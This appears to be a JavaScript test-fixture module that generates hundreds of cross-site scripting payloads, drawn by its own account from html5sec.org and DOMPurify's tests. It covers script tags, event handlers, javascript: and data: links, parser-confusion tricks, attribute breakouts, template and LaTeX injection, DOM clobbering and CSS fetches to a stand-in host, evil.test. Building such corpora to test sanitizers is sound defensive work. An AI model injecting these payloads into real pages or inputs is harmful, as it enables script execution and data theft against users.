// What could make a browser run or fetch something, by kind: written here, of the kinds that the lists
// of html5sec.org and DOMPurify's tests have. What runs calls `xss()`; what fetches asks `evil.test`.

const code = "xss()";
const elsewhere = "//evil.test/x";

/** Each value of a list in each of some forms. */
const each = (list, ...forms) => list.flatMap((one) => forms.map((form) => form(one)));

const scripts = [
  ...each(["script", "SCRIPT", "ScRiPt", "script type=module", "script defer", "script async", "script/x", "script\n", "script\t", "script type=text/ecmascript",
    "script nonce=a", "script language=javascript", "svg:script", "script xmlns=x"],
    (tag) => `<${tag}>${code}</script>`, (tag) => `<${tag}>${code}`),
  ...each([elsewhere, `http:${elsewhere}`, "data:text/javascript,xss()", "data:,xss()", "blob:xss", "/\\evil.test/x", "\\\\evil.test\\x"],
    (url) => `<script src=${url}></script>`, (url) => `<script src="${url}" integrity=x crossorigin></script>`),
  `<scr<script>ipt>${code}</scr</script>ipt>`, `<script>/*</script><script>*/${code}</script>`, `<script><!--\n${code}\n--></script>`, `<script>${code}//`,
  `<<script>${code}//<</script>`, `<script x=">">${code}</script>`, `<script>${code}</script `, `<script\0>${code}</script>`, `<%00script>${code}</script>`,
  `<svg><script>${code}</script></svg>`, `<svg><script href="data:,${code}"/></svg>`, `<svg><script xlink:href=${elsewhere} /></svg>`,
  `<svg><script>&#120;ss()</script></svg>`, `<math><script>${code}</script></math>`, `<template><script>${code}</script></template>`,
  `<noscript><script>${code}</script></noscript>`, `<script type=importmap>{"imports":{"a":"${elsewhere}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}"]}]}</script>`,
];

const handlers = [
  ...each(["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "video><source onerror", "details open ontoggle",
    "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "keygen autofocus onfocus", "marquee onstart",
    "iframe onload", "iframe srcdoc=x onload", "object data=x onerror", "embed src=x onerror", "style onload", "link rel=stylesheet href=x onerror",
    "frameset onload", "isindex onfocus autofocus", "body onpageshow", "body onhashchange", "svg><animate onbegin", "svg><set attributeName=x onbegin",
    "svg><a onfocus", "math onfocus tabindex=1 autofocus", "div tabindex=1 autofocus onfocus", "a href=# onclick", "div onpointerenter", "div onmouseover",
    "p onanimationstart", "p ontransitionend", "form onsubmit", "meter onmouseover", "table background=x onerror", "image src=x onerror", "img src=x onload",
    "input type=image src=x onerror", "xss onfocus tabindex=1 autofocus", "dialog open onclose", "video autoplay onplay", "track onerror", "bgsound onload"],
    (tag) => `<${tag}=${code}>`, (tag) => `<${tag}="${code}">x`, (tag) => `<${tag.toUpperCase()}='${code}'>`),
  ...each(["/", "\t", "\n", "\f", "\r", "//", " / ", "\v", "\u00a0"], (gap) => `<img${gap}src=x${gap}onerror=${code}>`, (gap) => `<svg${gap}onload=${code}${gap}>`),
  `<img src=x onerror\n=\n${code}>`, `<img src=x onerror=&#120;ss()>`, `<img src=x onerror="&#x78;&#x73;&#x73;&#x28;&#x29;">`, `<img src=x onerror=\`${code}\`>`,
  `<img src=x:x onerror=${code}//`, `<img src='x'onerror=${code}>`, `<img """><img src=x onerror=${code}>">`, `<img src=x onerror=${code} <p>`,
  `<img src onerror=${code}>`, `<img alt="<img src=x onerror=${code}>" src=y>`, `<img title='"><img src=x onerror=${code}>' src=y>`, `<a title="</a><img src=x onerror=${code}>">x</a>`,
];

const js = "javascript:xss()";
const addresses = [
  js, js.toUpperCase(), "jAvAsCrIpT:xss()", " javascript:xss()", "\tjavascript:xss()", "java\tscript:xss()", "java\nscript:xss()", "java\rscript:xss()",
  "javascript\t:xss()", "&#106;avascript:xss()", "&#x6A;avascript&colon;xss()", "javascript&#58;xss()", "javascript&#x3A;xss()", "java&Tab;script:xss()",
  "java&NewLine;script:xss()", "\u0001javascript:xss()", "&#1;javascript:xss()", "\u2028javascript:xss()", "javascript://%0axss()", "javascript:/*-/*`/*\\`/*'/*\"/**/(xss())//",
  "javascript%3Axss()", "%6Aavascript:xss()", "\\6a avascript:xss()", "vbscript:xss()", "livescript:xss()", "feed:javascript:xss()", "view-source:javascript:xss()",
  "data:text/html,<script>xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=xss() xmlns='http://www.w3.org/2000/svg'/>",
  "data:text/javascript,xss()", "blob:http://evil.test/x", "filesystem:http://evil.test/x", "jar:http://evil.test!/x", "file:///etc/passwd", "ws://evil.test/x",
  "http:javascript:xss()", "x:javascript:xss()", "//javascript:xss()", "?javascript:xss()", "#javascript:xss()", "javascript:xss()#.png", "javascript:xss()?.md",
];
const plain = (url) => url.replace(/[\n\r]/g, "");
const links = [
  ...each(addresses, (url) => `[x](<${plain(url)}>)`, (url) => `<a href="${url.replaceAll("\"", "&quot;")}">x</a>`),
  ...each([js, "data:text/html,<script>xss()</script>", elsewhere, "java\tscript:xss()"],
    (url) => `![x](${plain(url).replaceAll(" ", "%20")})`, (url) => `<img src='${url}'>`, (url) => `<iframe src='${url}'></iframe>`, (url) => `<object data='${url}'></object>`,
    (url) => `<embed src='${url}'>`, (url) => `<form action='${url}'><button>x</button></form>`, (url) => `<button formaction='${url}'>x</button>`,
    (url) => `<base href='${url}'>`, (url) => `<svg><a xlink:href='${url}'><text>x</text></a></svg>`, (url) => `<math href='${url}'>x</math>`,
    (url) => `<map><area href='${url}' coords=0,0,9,9></map>`, (url) => `<frame src='${url}'>`, (url) => `<link rel=import href='${url}'>`,
    (url) => `<meta http-equiv=refresh content='0;url=${url}'>`, (url) => `<svg><use href='${url}#a'/></svg>`, (url) => `<svg><image href='${url}'/></svg>`,
    (url) => `[x]: ${plain(url)}\n\n[x]`, (url) => `<${plain(url)}>`),
  `[x](${js} "y" onclick=${code})`, `[x](x "\\" onmouseover=${code} ")`, `[<img src=x onerror=${code}>](x)`, `![" onerror=${code} "](x.png)`, `![x](x.png "\\" onerror=${code} ")`,
  `<svg><a><animate attributeName=href values=${js} /><text>x</text></a></svg>`, `<svg><set attributeName=href to=${js} /></svg>`,
];

const fetched = each([elsewhere, `http:${elsewhere}`, `https:${elsewhere}`, "\\\\evil.test\\x", "/\\evil.test/x", "/\t/evil.test/x"],
  (url) => `![x](${url.replaceAll("\t", "%09")})`, (url) => `<img src="${url}">`, (url) => `<img srcset="${url} 2x" src=a.png>`, (url) => `<picture><source srcset="${url}"><img src=a.png></picture>`,
  (url) => `<video poster="${url}" src="${url}"></video>`, (url) => `<audio src="${url}" autoplay></audio>`, (url) => `<video><track default src="${url}"></video>`,
  (url) => `<input type=image src="${url}">`, (url) => `<link rel=prefetch href="${url}">`, (url) => `<link rel=stylesheet href="${url}">`, (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><td>x</table>`, (url) => `<a href=/ ping="${url}">x</a>`, (url) => `<style>@import "${url}";</style>`,
  (url) => `<p style="background:url(${url})">x</p>`, (url) => `<svg><style>*{background:url(${url})}</style></svg>`, (url) => `<svg><filter><feImage href="${url}"/></filter></svg>`);

const img = `<img src=x onerror=${code}>`;
const confusions = [
  ...each(["noscript", "title", "textarea", "xmp", "noembed", "noframes", "plaintext", "style", "iframe", "select", "template", "listing", "option", "frameset"],
    (tag) => `<${tag}><p title="</${tag}>${img}">`, (tag) => `<${tag}>${img}</${tag}>`, (tag) => `<svg><${tag}><${tag}></svg>${img}`),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`, `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${img}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${img}`, `<svg></p><style><a id="</style>${img}">`, `<svg><foreignObject>${img}</foreignObject></svg>`,
  `<svg><desc><noscript>${img}</noscript></desc></svg>`, `<svg><title>${img}</title></svg>`, `<math><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style>${img}">`, `<svg><p>${img}`, `<math></br>${img}`, `<svg></br><style><!--</style>${img}-->`,
  `<table><caption><svg><title>${img}`, `<table>${img}<tr><td>x</table>`, `<table><tr><script>${code}</script></table>`, `<select><option>${img}</select>`, `<a><table><a>${img}</a></table></a>`,
  `<!--${img}-->`, `<!-->${img}-->`, `<!--->${img}-->`, `<!-- --!>${img}-->`, `<!--x--!>${img}`, `<!${img}>`, `<?xml ${img}?>`, `<?${img}`, `<![CDATA[${img}]]>`, `<![CDATA[>${img}]]>`, `</${img}`, `</ ${img}`,
  `<!DOCTYPE html [<!ENTITY x "${img}">]>&x;`, `<b <${img}`, `<a href="x${"x".repeat(900)}">${img}`, `<div${" ".repeat(500)}>${img}`, `${"<b>".repeat(120)}${img}`, `${"<div>".repeat(300)}${img}`,
  `<p>${img.replaceAll("<", "&lt;")}</p>`, `&lt;script&gt;${code}&lt;/script&gt;`, `\\<img src=x onerror=${code}>`, `<img src=x onerror=${code}`, `＜img src=x onerror=${code}＞`, `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `<\u200bscript>${code}</script>`, `<ſcript>${code}</ſcript>`, `<ımg src=x onerror=${code}>`, `\u202e<script>${code}</script>`, `\ufeff<script>${code}</script>`, `\u0000<script>${code}</script>`,
];

const breakouts = [
  ...each(["\">", "'>", "`>", ">", "-->", "--!>", "]]>", "*/", "?>", "</title>", "</textarea>", "</script>", "</style>", "</template>", "</svg>", "</math>", "</dialog>", "</main>", "</body>", "</html>", "</pre></code>", "</a>"],
    (end) => `${end}${img}`, (end) => `${end}<script>${code}</script>`, (end) => `${end}<svg onload=${code}>`),
  ...each(["\"", "'", "`", ""], (quote) => `${quote} onmouseover=${code} x=${quote}`, (quote) => `x${quote} autofocus onfocus=${code} ${quote}`, (quote) => `${quote}-${code}-${quote}`, (quote) => `${quote});${code}//`),
  `{{constructor.constructor('${code}')()}}`, `{{{x}}}`, `{{#with "s" as |s|}}${code}{{/with}}`, `{{> layout}}`, `{{json t}}`, "{{lookup this '__proto__'}}", `\${${code}}`, `<%= ${code} %>`, `#{${code}}`, `[[${code}]]`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${code}\\x3e`, `\\"}</script><script>${code}</script>`, `\u2028${code}\u2029`, `%3Cscript%3E${code}%3C/script%3E`, `\r\n\r\n${img}`, `\r\nSet-Cookie: x=1`,
];

const formulas = each([
  `\\href{${js}}{x}`, `\\url{${js}}`, `\\htmlClass{x" onmouseover="${code}}{x}`, `\\htmlId{" autofocus onfocus="${code}}{x}`, `\\htmlData{onclick=${code}}{x}`,
  "\\htmlStyle{background:url(//evil.test/x)}{x}", "\\style{background:url(//evil.test/x)}{x}", "\\includegraphics{//evil.test/x.png}", `\\class{" onclick="${code}}{x}`, `\\cssId{ui.deck}{x}`,
  `\\text{${img}}`, `\\tag{${img}}`, `\\ce{${img}}`, `\\operatorname{${img}}`, `\\color{red" onload="${code}}x`, "\\textcolor{url(//evil.test/x)}{x}", `\\begin{${img}}x\\end{${img}}`,
  `\\label{" onclick="${code}}x`, `\\ref{" onclick="${code}}`, `\\newcommand{\\x}[1]{\\href{#1}{y}}\\x{${js}}`, `\\def\\x{<script>${code}</script>}\\x`, "\\def\\a{\\a\\a}\\a",
], (tex) => `$$${tex}$$`, (tex) => `x $${tex}$ y`);

const clobbering = [
  ...each(["ui.deck", "ui.strings", "ui.announce", "ui.connection", "ui.sections", "ui.talk", "ui.current", "ui.notes", "location", "document", "cookie", "getElementById", "body", "querySelector", "__proto__", "attributes"],
    (name) => `<a id="${name}" href="${js}">x</a>`, (name) => `<form id="${name}"><input name="${name}"></form>`, (name) => `<img name="${name}" id="${name}" src=a.png>`, (name) => `<h2 id="${name}">x</h2>`),
  "<div class=\"slide\" data-slide=\"1\" data-rev=x>x</div>", "<section class=slide id=x data-steps=99>x</section>", "<div data-verb=next>x</div>", "<button data-go=1 data-verb=end>x</button>",
  "<li data-step=1>x</li>", "<hr data-gap=0>", "<p data-show=toast>x</p>", "<dialog open>x</dialog>", "<slot name=x></slot>", "<div is=x-y contenteditable popover>x</div>",
];

const styles = each(["background:url(//evil.test/x)", "behavior:url(//evil.test/x)", "-moz-binding:url(//evil.test/x)", "width:expression(xss())", "position:fixed;inset:0;z-index:99999",
  "@import '//evil.test/x'", "color:red;x:\\65xpression(xss())", "list-style:url(\"javascript:xss()\")"],
  (css) => `<p style='${css}'>x</p>`, (css) => `<style>*{${css}}</style>`, (css) => `<style>${css}`, (css) => `<svg style='${css}'><style>*{${css}}</style></svg>`);

/** All payloads, by kind. @type {Record<string, string[]>} */
export const kinds = { scripts, handlers, links, fetched, confusions, breakouts, formulas, clobbering, styles };

/** All payloads, each once. */
export const payloads = [...new Set(Object.values(kinds).flat())];

/** Addresses alone, for places that take one. */
export { addresses };
